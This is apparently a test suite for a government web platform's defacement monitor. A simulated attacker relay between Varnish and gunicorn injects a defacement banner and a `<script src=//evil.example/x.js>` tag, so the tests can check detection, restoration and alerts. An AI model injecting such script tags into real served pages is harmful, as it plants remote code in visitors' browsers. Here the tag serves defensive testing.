"""网页防篡改 against real servers: gunicorn renders, Varnish (deploy/varnish/default.vcl) serves, and
between them a relay that an attacker can turn to change what Varnish stores.

The probe reads the published pages from gunicorn directly and the public copies through Varnish,
as monitoring.tamper does in production.
"""

import http.client
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from django.core import mail
from django_tenants.utils import schema_context
from wagtail.models import Page

from columns.models import ColumnPage
from monitoring import health, tamper
from monitoring.models import SiteHealth, TamperIncident, TamperPage, TamperWatch
from tenants.models import AuditAction, AuditEvent
from tests.helpers import EdgeEditor, free_port, gunicorn_server, varnish_server

pytestmark = pytest.mark.slow
DEFACED = "本网站已被黑客攻陷"


class Relay(ThreadingHTTPServer):
    """Forwards GETs to the app; with `deface` set, the page it passes on carries the attacker's words."""

    daemon_threads = True

    def __init__(self, app_port):
        self.app_port, self.deface, self.fail = app_port, False, False
        super().__init__(("127.0.0.1", free_port()), RelayHandler)


class RelayHandler(BaseHTTPRequestHandler):
    def do_GET(self):
        if self.server.fail:  # the app behind the edge overloaded, for a moment
            self.send_error(503)
            return
        conn = http.client.HTTPConnection("127.0.0.1", self.server.app_port, timeout=30)
        conn.request("GET", self.path, headers={k: v for k, v in self.headers.items() if k.lower() != "connection"})
        answer = conn.getresponse()
        body = answer.read()
        if self.server.deface:
            injected = f"<h1>{DEFACED}</h1><script src=//evil.example/x.js></script></main>"
            body = body.replace(b"</main>", injected.encode())
        self.send_response(answer.status)
        for name, value in answer.getheaders():
            if name.lower() not in ("content-length", "connection", "transfer-encoding"):
                self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
        conn.close()

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def servers(fixture_sites, django_db_blocker, tmp_path_factory):
    """(gunicorn port, relay, varnish port): Varnish → relay → gunicorn; gunicorn purges that Varnish."""
    varnish_port = free_port()
    workdir = tmp_path_factory.mktemp("tamper")
    with django_db_blocker.unblock(), gunicorn_server(
        workdir / "gunicorn.log", EDGE_CACHE_PURGE_LOCATIONS=f"http://127.0.0.1:{varnish_port}",
    ) as app:
        relay = Relay(app.port)
        threading.Thread(target=relay.serve_forever, daemon=True).start()
        try:
            with varnish_server(workdir / "varnish", relay.server_address[1], port=varnish_port):
                yield app.port, relay, varnish_port
        finally:
            relay.shutdown()


@pytest.fixture
def probe(servers, settings):
    """The test process set up as the probe job is in production: public copies through the edge,
    published pages from the app node, purges to the edge."""
    app_port, relay, varnish_port = servers
    settings.MONITORING_PROBE_CONNECT_TO = f"*=127.0.0.1:{varnish_port}"
    settings.TAMPER_ORIGIN = f"127.0.0.1:{app_port}"
    settings.WAGTAILFRONTENDCACHE = {"edge": {
        "BACKEND": "edge.backends.HostBanBackend", "LOCATIONS": [f"http://127.0.0.1:{varnish_port}"], "TIMEOUT": 2,
    }}
    relay.deface = relay.fail = False
    return servers


def fetch(port, host, path="/"):
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        conn.request("GET", path, headers={"Host": host})
        response = conn.getresponse()
        return {k.lower(): v for k, v in response.getheaders()}, response.read().decode()
    finally:
        conn.close()


def explain_incidents():
    """What differed, for a failing test's message."""
    return [(i.url, [line for line in tamper.diff(i) if line[0] in "+-"][:20]) for i in TamperIncident.objects.all()]


def ban_behind_the_platforms_back(varnish_port, host):
    conn = http.client.HTTPConnection("127.0.0.1", varnish_port, timeout=10)
    conn.request("BAN", "/", headers={"Host": host})
    assert conn.getresponse().status == 200
    conn.close()


def test_a_quiet_site_raises_no_alarm_on_any_of_its_columns(probe, county, settings):
    """Every column, the mailbox with its captcha and CSRF token among them, twice: the second time from
    the edge's cache."""
    settings.TAMPER_COLUMNS_PER_RUN = 100
    for _ in range(2):
        totals = tamper.run([county.site])
        assert totals["incident"] == 0 and totals["stale"] == 0, (totals, explain_incidents())
        assert totals["ok"] >= 10, totals
        if _ == 0:
            verified = dict(TamperPage.objects.values_list("url", "verified_at"))
    assert not TamperIncident.objects.exists() and not mail.outbox
    # The second time the public copies were the pages as verified: the app was not asked again, and the
    # copies kept at the edge were the very bytes found to be the page.
    assert len(verified) >= 10 and dict(TamperPage.objects.values_list("url", "verified_at")) == verified
    assert TamperPage.objects.get(url=f"http://{county.host}/").raw_digest


def test_a_defaced_edge_copy_raises_an_incident_in_one_run_and_is_restored(probe, county, mailoutbox,
                                                                           security_admin):
    security_admin.email = "anquan@sc.gov.cn"
    security_admin.save()
    _app_port, relay, varnish_port = probe
    assert tamper.run([county.site])["ok"] >= 1  # the home page as published, verified: the baseline
    relay.deface = True  # the attacker's relay, then a cleared cache: the next fetch stores the defacement
    ban_behind_the_platforms_back(varnish_port, county.host)
    headers, body = fetch(varnish_port, county.host)
    relay.deface = False
    headers, body = fetch(varnish_port, county.host)
    assert DEFACED in body and headers["x-cache"] == "HIT", "the edge does not serve the defaced copy"

    totals = tamper.run([county.site])

    assert totals["incident"] == 1, totals
    incident = TamperIncident.objects.get(site=county.site)
    assert incident.url == f"http://{county.host}/" and incident.restored is True and incident.is_open
    assert DEFACED in incident.served and DEFACED not in incident.expected
    added = [line for kind, line in tamper.diff(incident) if kind == "+"]
    assert any(DEFACED in line for line in added) and any("evil.example" in line for line in added)
    # The edge copy was cleared and fetched again: citizens get the real page now.
    assert DEFACED not in fetch(varnish_port, county.host)[1]
    # Alerted at once, and the dashboard vetoes the site.
    assert len(mailoutbox) == 1 and "网页被篡改" in mailoutbox[0].subject
    assert security_admin.email in mailoutbox[0].to and incident.alerted == len(mailoutbox[0].to)
    assert AuditEvent.objects.filter(action=AuditAction.TAMPER_DETECTED, detail__incident=incident.pk).exists()
    tamper_indicator = SiteHealth.objects.get(site=county.site).indicator("tamper")
    assert tamper_indicator["vetoed"] and tamper_indicator["value"] == 1

    # Restored is not closed: the veto stays until an administrator says what was done.
    assert tamper.run([county.site])["incident"] == 0
    health.refresh(county.site)
    assert SiteHealth.objects.get(site=county.site).indicator("tamper")["vetoed"]


def test_a_publish_raises_no_incident(probe, county):
    app_port, _relay, varnish_port = probe
    with schema_context(county.schema):
        news = ColumnPage.objects.get(slug="xwdt")
    for path in ("/", "/xwdt/"):
        fetch(varnish_port, county.host, path)  # cached before the editor acts
    editor = EdgeEditor(f"http://127.0.0.1:{app_port}", county.host)
    assert editor.sign_in(county.password).status_code == 302
    try:
        published = editor.publish_article(news.pk, title="防篡改测试稿件", slug="tamper-test", body="<p>正文</p>")
        assert published.status_code == 302
        TamperWatch.objects.create(site=county.site, column_cursor=news.pk - 1)  # the news column is checked
        totals = tamper.run([county.site])
        assert totals["incident"] == 0 and totals["ok"] >= 2, totals
        assert not TamperIncident.objects.exists()
    finally:
        with schema_context(county.schema):
            left = Page.objects.filter(slug="tamper-test").first()
        if left is not None:
            editor.delete_page(left.pk)


def test_a_stale_copy_whose_purge_never_arrived_is_refreshed_not_reported(probe, county, settings):
    """The edge kept the old page (its purge was lost); the platform's mark of the purge explains it."""
    from edge import purge

    _app_port, relay, varnish_port = probe
    relay.deface = True  # stands for the old page: different from what the app renders now
    ban_behind_the_platforms_back(varnish_port, county.host)
    fetch(varnish_port, county.host)
    relay.deface = False
    time.sleep(1.1)
    purge.mark([county.host], purge.timezone.now())  # the platform purged after that copy was stored...
    totals = tamper.run([county.site])  # ...but the ban never reached the edge
    assert totals["stale"] == 1 and totals["incident"] == 0, totals
    assert DEFACED not in fetch(varnish_port, county.host)[1]


def test_the_normalised_page_leaves_out_what_changes_at_every_answer():
    one = tamper.normalise('<form><input name="csrfmiddlewaretoken" value="aaa"><span data-volatile>'
                           '<img src="/captcha/image/1/"></span><p>正文</p>  </form>'.encode())
    two = tamper.normalise('<form><input name="csrfmiddlewaretoken" value="bbb"><span data-volatile>'
                           '<img src="/captcha/image/2/"></span><p>正文</p>\n</form>'.encode())
    changed = tamper.normalise('<form><input name="csrfmiddlewaretoken" value="aaa"><p>假</p></form>'.encode())
    assert tamper.digest(one) == tamper.digest(two) != tamper.digest(changed)


def test_an_app_node_that_does_not_answer_is_noted_not_reported(probe, county, city, settings):
    settings.TAMPER_ORIGIN = f"127.0.0.1:{free_port()}"  # nothing listens there
    totals = tamper.run([county.site, city.site])
    assert totals["incident"] == 0 and totals["unreadable"] >= 2, totals
    assert not TamperIncident.objects.exists()
    for site in (county.site, city.site):  # both sites tried, each noted for the console's list
        assert TamperWatch.objects.get(site=site).last_error.startswith("http://")
        assert "应用节点：连接失败" in TamperWatch.objects.get(site=site).last_error


def test_an_error_page_from_the_edge_is_noted_not_reported(probe, county):
    """A 503 through the public address is the availability probes' business (a backend hiccup under
    load), not a defacement: a false alarm would teach administrators to ignore the real ones."""
    _app_port, relay, varnish_port = probe
    relay.fail = True
    ban_behind_the_platforms_back(varnish_port, county.host)
    totals = tamper.run([county.site])
    assert totals["incident"] == 0 and totals["unreadable"] >= 1, totals
    assert "HTTP 状态 503" in TamperWatch.objects.get(site=county.site).last_error
    assert not TamperIncident.objects.exists()
